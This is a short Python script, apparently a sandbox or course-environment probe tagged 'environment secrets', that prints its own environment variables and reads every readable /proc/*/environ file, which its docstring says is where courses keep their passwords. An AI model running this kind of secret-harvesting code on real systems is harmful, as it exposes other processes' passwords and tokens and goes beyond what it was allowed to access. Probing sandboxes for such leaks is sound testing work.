"""Prints the environment of this process and of those around it, where courses keep their passwords.

covers: environment secrets
"""

# %% top
import glob
import os
from contextlib import suppress

print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ"):
    with suppress(OSError):
        print(path, open(path, "rb").read())
